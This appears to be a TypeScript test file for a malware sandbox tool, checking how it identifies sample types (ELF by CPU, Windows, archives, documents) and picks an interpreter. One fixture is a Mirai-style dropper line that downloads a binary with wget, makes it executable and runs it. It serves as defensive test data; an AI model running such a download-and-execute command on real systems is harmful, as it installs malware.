// How a sample is started: by the kernel, by the interpreter a victim's shell would hand it to, or
// not at all (a file no Linux x86 system runs), from its first bytes and its name.
import { test } from 'node:test';
import { createHash } from 'node:crypto';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { SandtraceError } from './errors.js';
import { inspectSample, sampleLaunch } from './sample.js';
import { tempDir } from '../test/helpers.js';

/** An ELF header: class (1 = 32-bit, 2 = 64-bit), data (1 = little, 2 = big endian), e_type, e_machine. */
function elf(cls: number, data: number, type: number, machine: number): Buffer {
  const h = Buffer.alloc(64);
  h.writeUInt32BE(0x7f454c46, 0);
  h[4] = cls; h[5] = data; h[6] = 1;
  if (data === 1) { h.writeUInt16LE(type, 16); h.writeUInt16LE(machine, 18); } else { h.writeUInt16BE(type, 16); h.writeUInt16BE(machine, 18); }
  return h;
}

const text = (s: string) => Buffer.from(s, 'latin1');

function refused(name: string, head: Buffer): string {
  try {
    sampleLaunch(name, head);
  } catch (e) {
    assert.ok(e instanceof SandtraceError);
    assert.equal(e.code, 'INPUT_UNSUPPORTED');
    assert.doesNotMatch(e.message, /\n/, 'one line');
    return e.message;
  }
  assert.fail(`${name} was not refused`);
}

test('programs the kernel runs itself get no interpreter: this machine\'s own ELF, x86-64 and i386 headers, a #! script', () => {
  assert.equal(sampleLaunch('true', readFileSync('/bin/true').subarray(0, 512)), undefined);
  assert.equal(sampleLaunch('a', elf(2, 1, 3, 62)), undefined, 'x86-64 PIE');
  assert.equal(sampleLaunch('b', elf(1, 1, 2, 3)), undefined, 'i386 executable');
  assert.equal(sampleLaunch('c.sh', text('#!/bin/sh\necho hi\n')), undefined);
  assert.equal(sampleLaunch('d', text('#!/usr/bin/env python3\nprint(1)\n')), undefined);
});

test('an ELF for another CPU is refused, naming the CPU (Mirai ships ARM, MIPS and PowerPC builds)', () => {
  assert.match(refused('mirai.arm7', elf(1, 1, 2, 40)), /^sample mirai\.arm7 is an ELF program for ARM \(32-bit little-endian\): sandtrace runs programs for x86-64 and i386/);
  assert.match(refused('mirai.mips', elf(1, 2, 2, 8)), /ELF program for MIPS \(32-bit big-endian\)/);
  assert.match(refused('x.aarch64', elf(2, 1, 3, 183)), /ARM aarch64 \(64-bit little-endian\)/);
  assert.match(refused('x.odd', elf(2, 1, 2, 9999)), /ELF program for machine 9999/);
});

test('an ELF that is no program (an object file, a core dump) or whose header is cut short is refused', () => {
  assert.match(refused('x.o', elf(2, 1, 1, 62)), /relocatable object \(\.o\), not a program/);
  assert.match(refused('core', elf(2, 1, 4, 62)), /core dump, not a program/);
  assert.match(refused('cut', elf(2, 1, 2, 62).subarray(0, 12)), /truncated ELF/);
});

test('Windows programs, archives, documents and macOS programs are refused with what to do', () => {
  const pe = Buffer.concat([text('MZ\x90\x00\x03\x00\x00\x00\x04\x00'), Buffer.alloc(54)]);
  assert.match(refused('invoice.exe', pe), /is a Windows \(PE\/MS-DOS\) program: sandtrace runs Linux programs/);
  assert.match(refused('s.zip', text('PK\x03\x04\x14\x00\x00\x00')), /Zip archive.*extract the program/);
  assert.match(refused('s.gz', Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0])), /gzip compressed data: decompress it/);
  const tar = Buffer.alloc(512); tar.write('payload', 0); tar.write('ustar', 257);
  assert.match(refused('s.tar', tar), /tar archive/);
  assert.match(refused('s.xz', Buffer.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00, 0, 4])), /xz compressed/);
  assert.match(refused('doc.pdf', text('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')), /PDF document/);
  assert.match(refused('doc.doc', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])), /Office \(OLE\) document/);
  assert.match(refused('app', Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1])), /Mach-O/);
});

test('text without #! goes to /bin/sh, as a shell\'s execvp runs it; .py to python3, .pl to perl', () => {
  const dropper = text('cd /tmp || cd /var/run; wget http://127.0.0.1/x86; chmod +x x86; ./x86\n');
  assert.deepEqual(sampleLaunch('bins.sh', dropper)?.interpreter, ['/bin/sh']);
  assert.deepEqual(sampleLaunch('noext', dropper)?.interpreter, ['/bin/sh']);
  assert.deepEqual(sampleLaunch('x.py', text('import os\nos.system("id")\n'))?.interpreter, ['/usr/bin/python3']);
  assert.deepEqual(sampleLaunch('X.PL', text('print "hi";\n'))?.interpreter, ['/usr/bin/perl'], 'the extension in any case');
  assert.match(sampleLaunch('bins.sh', dropper)?.why ?? '', /text without a #! line.*a shell runs with \/bin\/sh/);
  assert.deepEqual(sampleLaunch('m', text('MZ is a text file here\n'))?.interpreter, ['/bin/sh'], 'text beginning with MZ is text, not a PE');
});

test('a #! line ending in CR (CRLF line ends) is run by its interpreter, its argument kept as the kernel splits it', () => {
  assert.deepEqual(sampleLaunch('w.sh', text('#!/bin/bash\r\necho hi\r\n'))?.interpreter, ['/bin/bash']);
  assert.deepEqual(sampleLaunch('w.sh', text('#! /usr/bin/env  python3 -u\r\nprint(1)\r\n'))?.interpreter, ['/usr/bin/env', 'python3 -u']);
  assert.match(sampleLaunch('w.sh', text('#!/bin/sh\r\n'))?.why ?? '', /carriage return/);
  assert.equal(sampleLaunch('w.sh', text('#!\r\n')), undefined, 'no interpreter named: left to the kernel');
});

test('binary data that is none of the known types is left to the kernel (which refuses it: SAMPLE_NOT_STARTED)', () => {
  assert.equal(sampleLaunch('blob', Buffer.from([11, 48, 85, 122, 159, 196, 233, 14])), undefined);
});

test('inspectSample: the hashes and type, the launch chosen; --interpreter overrides it and its refusals', async () => {
  const t = tempDir();
  try {
    const p = join(t.path, 'bins.sh');
    writeFileSync(p, 'echo hi\n');
    const s = await inspectSample(p, ['a']);
    assert.deepEqual([s.info.type, s.info.interpreter, s.info.args], ['text', ['/bin/sh'], ['a']]);
    assert.equal(s.info.sha256, createHash('sha256').update('echo hi\n').digest('hex'));
    const exe = join(t.path, 'invoice.exe');
    writeFileSync(exe, Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(60)]));
    await assert.rejects(inspectSample(exe), (e: unknown) => e instanceof SandtraceError && e.code === 'INPUT_UNSUPPORTED');
    const wine = await inspectSample(exe, [], '/usr/bin/wine');
    assert.deepEqual(wine.info.interpreter, ['/usr/bin/wine']);
    assert.match(wine.launch?.why ?? '', /--interpreter/);
    const elfFile = join(t.path, 'true');
    writeFileSync(elfFile, readFileSync('/bin/true'));
    const e = await inspectSample(elfFile);
    assert.equal(e.info.interpreter, undefined);
    assert.equal(e.launch, undefined);
  } finally {
    t.cleanup();
  }
});
